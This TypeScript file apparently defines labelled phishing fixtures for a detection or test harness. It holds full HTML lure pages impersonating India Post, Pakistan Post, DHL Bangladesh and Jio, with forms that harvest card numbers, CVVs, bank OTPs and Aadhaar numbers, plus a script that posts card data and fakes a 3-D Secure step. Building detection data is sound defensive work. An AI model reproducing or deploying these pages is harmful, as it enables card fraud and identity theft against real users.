import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, doc, wordmark, emblem, bankCss, MOBILE_CSS, stepFlowScript, countdownScript, FONTS } from '../parts/yn-kit.js';

// Parcel, customs and telecom lures (mostly arriving as SMS).

export const entries: Entry[] = [
{
  id: 'yn-indiapost-address-incomplete-fee',
  label: 'phishing',
  kind: 'courier-fee-kit',
  url: 'https://indiapost-redelivery.com/in/',
  body: doc({
    title: 'India Post - Track Consignment',
    css: MOBILE_CSS + `.app header{background:#c8102e}.app button{background:#c8102e}.trk{background:#fff6f6;border:1px solid #f3c0c6;border-radius:8px;padding:12px;font-size:14px}.tl{border-left:3px solid #c8102e;margin:14px 0 0 6px;padding-left:14px;font-size:13px}.tl p{margin:0 0 10px}`,
    body: `<div class="app"><header>${emblem('IP', '#c8102e', '#fff', 40)}<div><b>India Post</b><div style="font-size:11px">Dak Sewa - Jan Sewa</div></div></header>
<div class="pad">
<div class="trk"><b>Consignment No: EH648213077IN</b><br>Status: <span style="color:#c8102e">Held at Delivery Hub</span><br>The package has arrived at the warehouse but cannot be delivered due to incomplete address information. Please update your address within 48 hours, otherwise the package will be returned to sender.</div>
<div class="tl"><p><b>12 Jun 2025 09:14</b><br>Item Booked, Mumbai NSH</p><p><b>13 Jun 2025 18:40</b><br>Item Received, Delhi NSH</p><p><b>14 Jun 2025 07:02</b><br>Delivery attempted — address incomplete</p></div>
<form class="step on" data-step="addr">
<label>Full Name</label><input type="text" name="name" required>
<label>Mobile Number</label><input type="tel" name="phone" maxlength="10" required>
<label>House No. / Street</label><input type="text" name="addr1" required>
<label>City</label><input type="text" name="city" required>
<label>PIN Code</label><input type="tel" name="pin" maxlength="6" required>
<button>Update Address</button>
</form>
<form class="step" data-step="pay">
<p>A redelivery fee of <b>₹ 25.00</b> is payable to schedule delivery.</p>
<label>Card Number</label><input type="tel" name="cc" maxlength="19" autocomplete="cc-number" required>
<label>Expiry Date</label><input type="text" name="exp" placeholder="MM/YY" required>
<label>CVV</label><input type="password" name="cvv" maxlength="3" required>
<button>Pay ₹25</button>
</form>
<form class="step" data-step="otp">
<p class="muted">Enter the OTP sent by your bank to confirm the payment of ₹25.</p>
<label>OTP</label><input type="tel" name="otp" maxlength="6" required>
<button>Confirm</button>
</form>
<p class="muted" style="text-align:center;margin-top:24px">© 2025 India Post, Ministry of Communications</p>
</div></div>
${stepFlowScript('/in/api.php', '/in/done.html')}`,
  }),
  routes: {
    'indiapost-redelivery.com/in/done.html': htmlRoute(doc({ title: 'India Post', body: '<p style="font-family:Arial;text-align:center;padding:60px">Your address has been updated. Delivery will be attempted within 24-48 hours.</p>' })),
  },
},
{
  id: 'yn-pakistan-post-redelivery-ur',
  label: 'phishing',
  kind: 'courier-fee-kit',
  url: 'https://pakpost-tracking-pk.com/track/',
  body: doc({
    title: 'Pakistan Post | Parcel Tracking',
    lang: 'ur',
    font: FONTS.urdu,
    css: bankCss('#006a4e', '#006a4e') + `.ur{direction:rtl;font-family:${FONTS.urdu};font-size:15px;line-height:2}.box2{background:#f0f8f4;border:1px solid #bfe1d2;padding:12px;border-radius:6px}`,
    body: `<div class="topbar"><div class="in">${wordmark('Pakistan Post', '#fff', '#006a4e', 170, 34)}<span><a href="#">Track</a><a href="#">Services</a><a href="#">Contact</a></span></div></div>
<div class="main"><div class="card">
<h2>Article No: RL209188431PK</h2>
<div class="box2"><p class="ur">آپ کا پارسل ہمارے گودام میں پہنچ گیا ہے لیکن نامکمل پتے کی وجہ سے ڈیلیور نہیں کیا جا سکا۔ براہ کرم 24 گھنٹوں کے اندر اپنا پتہ اپ ڈیٹ کریں اور Rs. 150 ڈیلیوری فیس ادا کریں۔</p>
<p>Your parcel could not be delivered due to an incomplete address. Update your address and pay Rs. 150 redelivery charges within 24 hours.</p></div>
<form method="post" action="pay.php">
<label>Full Name</label><input type="text" name="fullname" required>
<label>Phone</label><input type="tel" name="phone" required>
<label>Address</label><input type="text" name="address" required>
<label>City</label><select name="city"><option>Karachi</option><option>Lahore</option><option>Islamabad</option><option>Rawalpindi</option><option>Faisalabad</option><option>Peshawar</option><option>Multan</option><option>Quetta</option></select>
<h3 style="margin-bottom:0">Payment (Rs. 150)</h3>
<label>Card Number</label><input type="tel" name="card_number" maxlength="19" required>
<label>Expiry</label><input type="text" name="expiry" placeholder="MM/YY" required>
<label>CVV</label><input type="password" name="cvv" maxlength="4" required>
<button class="btn">Pay &amp; Confirm Delivery</button>
</form></div></div>
<footer class="b">© Pakistan Post Office Department, Ministry of Communications. Helpline: 0800-11117</footer>`,
  }),
},
{
  id: 'yn-dhl-customs-duty-bd-bn',
  label: 'phishing',
  kind: 'courier-fee-kit',
  url: 'https://dhl-bd-customs.com/payment/duty',
  body: doc({
    title: 'DHL Express | Customs Duty Payment',
    lang: 'bn',
    font: FONTS.beng,
    css: `body{background:#f2f2f2}.hd{background:#fc0;padding:14px 30px}.c{max-width:520px;margin:30px auto;background:#fff;padding:26px;border-top:4px solid #d40511}h2{color:#d40511;margin-top:0}label{display:block;font-size:13px;margin:12px 0 4px}input{width:100%;height:42px;border:1px solid #bbb;padding:0 10px}.r{display:flex;gap:10px}.r div{flex:1}button{background:#d40511;color:#fff;border:0;height:46px;width:100%;margin-top:18px;font-size:16px;font-weight:bold}.s{font-size:13px;color:#444;background:#fff8d6;padding:10px}`,
    body: `<div class="hd">${wordmark('DHL', '#fc0', '#d40511', 90, 32, 0)}</div>
<div class="c"><h2>কাস্টমস শুল্ক পরিশোধ</h2>
<p class="s">আপনার চালান (AWB 4829 1177 05) ঢাকা কাস্টমসে আটকে আছে। আমদানি শুল্ক <b>৳ ৮৯০</b> পরিশোধ না করলে ৩ কার্যদিবসের মধ্যে প্রেরকের কাছে ফেরত পাঠানো হবে।<br>Your shipment is held at Dhaka customs. Pay import duty of BDT 890 to release it.</p>
<form id="pf">
<label>কার্ডধারীর নাম</label><input name="holder" required>
<label>কার্ড নম্বর</label><input name="pan" inputmode="numeric" maxlength="19" autocomplete="cc-number" required>
<div class="r"><div><label>মেয়াদ (MM/YY)</label><input name="exp" required></div><div><label>CVV</label><input name="cvc" type="password" maxlength="4" required></div></div>
<button>৳ ৮৯০ পরিশোধ করুন</button>
</form></div>
<script>
document.getElementById('pf').addEventListener('submit',function(e){e.preventDefault();
var d=Object.fromEntries(new FormData(this));d.awb='482911770';
fetch('/payment/api/charge',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)}).then(function(r){return r.json()}).then(function(j){location.href=j.redirect||'/payment/3ds'}).catch(function(){location.href='/payment/3ds'})});
</script>`,
  }),
  routes: {
    'dhl-bd-customs.com/payment/api/charge': jsonRoute({ ok: true, redirect: '/payment/3ds' }),
    'dhl-bd-customs.com/payment/3ds': htmlRoute(doc({ title: '3D Secure', body: '<div style="max-width:380px;margin:50px auto;font-family:Arial;border:1px solid #ccc;padding:20px"><b>Verified by Visa</b><p>Merchant: DHL EXPRESS BD<br>Amount: BDT 890.00</p><form method="post" action="/payment/otp"><label>One Time Password</label><input name="otp" style="width:100%;height:36px"><button style="margin-top:10px">Submit</button></form></div>' })),
  },
},
{
  id: 'yn-jio-5g-sim-upgrade-aadhaar-otp',
  label: 'phishing',
  kind: 'telecom-sim-kit',
  url: 'https://jio5g-simupgrade.in/upgrade',
  body: doc({
    title: 'Jio True 5G - Free SIM Upgrade',
    css: MOBILE_CSS + `.app header{background:#0f3cc9}.app button{background:#0f3cc9}.hero{background:linear-gradient(135deg,#0f3cc9,#d9008d);color:#fff;border-radius:12px;padding:16px}.hero b{font-size:26px}`,
    body: `<div class="app"><header>${emblem('Jio', '#0f3cc9', '#fff', 40)}<b>Jio True 5G</b></header>
<div class="pad">
<div class="hero"><b>Upgrade to 5G SIM — FREE</b><p>Your current 4G SIM will be deactivated in 24 hours as part of the 5G network migration. Upgrade now to keep your number and get 2GB/day extra data for 3 months.</p></div>
<form class="step on" data-step="1">
<label>Jio Number</label><input type="tel" name="msisdn" maxlength="10" required>
<label>Aadhaar Number</label><input type="tel" name="aadhaar" maxlength="12" required>
<label>Full Name</label><input type="text" name="name" required>
<button>Continue</button>
</form>
<form class="step" data-step="2">
<p class="muted">Enter the OTP received on your Jio number. (This OTP is used to port your number to the new eSIM.)</p>
<label>OTP</label><input type="tel" name="otp" maxlength="6" required>
<button>Verify</button>
</form>
<form class="step" data-step="3">
<p>Pay a refundable ₹10 for SIM delivery:</p>
<label>Debit Card Number</label><input type="tel" name="card" maxlength="16" required>
<label>Expiry</label><input type="text" name="exp" placeholder="MM/YY" required>
<label>CVV</label><input type="password" name="cvv" maxlength="3" required>
<button>Pay ₹10</button>
</form>
<p class="muted" style="text-align:center;margin-top:20px">Reliance Jio Infocomm Ltd.</p>
</div></div>
${stepFlowScript('/upgrade/submit', 'https://www.jio.com/')}`,
  }),
},
];
